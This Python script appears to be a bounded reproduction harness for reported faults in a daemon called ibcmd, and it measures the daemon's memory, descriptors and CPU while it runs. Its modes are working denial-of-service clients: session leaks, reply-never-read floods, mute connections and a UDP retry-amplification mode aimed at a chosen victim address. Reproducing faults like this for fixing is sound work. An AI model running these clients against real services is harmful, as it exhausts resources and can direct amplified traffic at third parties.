#!/usr/bin/env python3
"""Bounded reproductions of issue 25's hostile local clients (faults 2-4) against a running
ibcmd, speaking its socket protocol directly (4-byte big-endian length, then JSON), with the
daemon's RSS, descriptors and CPU read from /proc/PID. See docs/ibcmd.md section 4.

  hostile.py sidr-leak  SOCK PID ROUNDS     ROUNDS sessions of 1024 SIDRs in flight, closed
  hostile.py sidr-amp   SOCK PID VICTIM_IP  1024 SIDRs, 1 ms and 255 retries, to one address
  hostile.py no-read    SOCK PID SESSIONS N sessions sending N refused requests echoing 60 KB,
                                            never reading
  hostile.py no-read-stats SOCK PID SESSIONS N   the same with N stats requests (~4 KB replies)
  hostile.py mute       SOCK 0 N SECS       N sessions that never say hello, held SECS (run it
                                            as another user)
  hostile.py watch      SOCK PID SECS       the daemon's CPU over SECS, then a root hello
"""
import json, os, socket, struct, sys, time


def frame(seq, op):
    b = json.dumps({"seq": seq, "op": op}).encode()
    return struct.pack(">I", len(b)) + b


def session(path, hello=True):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    if hello:
        s.sendall(frame(0, {"op": "hello", "version": 2}))
        n = struct.unpack(">I", recv_exact(s, 4))[0]
        recv_exact(s, n)
    return s


def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b


def stat(pid):
    rss = 0
    with open(f"/proc/{pid}/status") as f:
        for l in f:
            if l.startswith("VmRSS:"):
                rss = int(l.split()[1]) // 1024
    fds = len(os.listdir(f"/proc/{pid}/fd"))
    with open(f"/proc/{pid}/stat") as f:
        rest = f.read().rsplit(")", 1)[1].split()
    cpu = (int(rest[11]) + int(rest[12])) / os.sysconf("SC_CLK_TCK")
    return rss, fds, cpu


def show(what, pid):
    if pid == 0:
        return
    rss, fds, cpu = stat(pid)
    print(f"{what}: rss {rss} MB, fds {fds}, cpu {cpu:.2f} s", flush=True)


def sidr(seq, ip, timeout_ms, retries):
    return frame(seq, {"op": "sidr", "req": {"peer": {"udp": f"{ip}:4791"}, "service_id": 0x2600,
                 "pkey": 0xffff, "private_data": [], "timeout_ms": timeout_ms,
                 "max_retries": retries}})


def main():
    mode, path, pid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    show("before", pid)
    if mode == "sidr-leak":
        for r in range(int(sys.argv[4])):
            s = session(path)
            s.sendall(b"".join(sidr(i + 1, f"127.26.{(r * 1024 + i) >> 8 & 255}.{i & 255}", 60000, 15)
                               for i in range(1024)))
            time.sleep(0.5)
            s.close()
        time.sleep(2)
        show(f"after {sys.argv[4]} sessions closed", pid)
    elif mode == "sidr-amp":
        v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        v.bind((sys.argv[4], 4791))
        v.settimeout(0.5)
        s = session(path)
        reqs = b"".join(sidr(i + 1, sys.argv[4], 1, 255) for i in range(1024))
        s.sendall(reqs)
        n, nbytes, quiet = 0, 0, 0
        t0 = time.time()
        while quiet < 6 and time.time() - t0 < 60:
            try:
                d = v.recv(4096)
                n += 1
                nbytes += len(d)
                quiet = 0
            except socket.timeout:
                quiet += 1
        print(f"{len(reqs)} request bytes in 1024 frames -> {n} datagrams, {nbytes} bytes")
        show("after", pid)
    elif mode in ("no-read", "no-read-stats"):
        held = []
        per = int(sys.argv[5]) if len(sys.argv) > 5 else 2000
        for k in range(int(sys.argv[4])):
            s = session(path)
            s.setblocking(True)
            if mode == "no-read":
                f = frame(1, {"op": "xrc-listen", "service_id": 0x2700 + k, "policy": "x" * 60000,
                              "srqns": [1]})
            else:
                f = frame(1, {"op": "stats"})
            sent = 0
            s.settimeout(5)
            try:
                for _ in range(per):
                    s.sendall(f)
                    sent += 1
            except (OSError, socket.timeout):
                pass
            print(f"session {k}: {sent} requests written", flush=True)
            held.append(s)
            show(f"  with {k + 1} sessions", pid)
        for s in held:
            s.close()
        time.sleep(2)
        show("after they closed", pid)
    elif mode == "mute":
        held, failed = [], 0
        t0 = time.time()
        for _ in range(int(sys.argv[4])):
            try:
                held.append(session(path, hello=False))
            except OSError:
                failed += 1
                if failed >= 3:
                    break
        print(f"{len(held)} opened, {failed} failed in {time.time() - t0:.1f} s", flush=True)
        time.sleep(float(sys.argv[5]))
        for s in held:
            s.close()
    elif mode == "watch":
        # As root during a storm: the daemon's CPU over SECS, its descriptors, a root hello.
        c0, t0 = stat(pid)[2], time.time()
        time.sleep(float(sys.argv[4]))
        rss, fds, cpu = stat(pid)
        print(f"storm: daemon {(cpu - c0) / (time.time() - t0):.2f} cores, fds {fds}, rss {rss} MB")
        t0 = time.time()
        try:
            session(path).close()
            print(f"root attached in {time.time() - t0:.2f} s")
        except (OSError, EOFError) as e:
            print(f"root cannot attach: {e!r} after {time.time() - t0:.1f} s")


main()
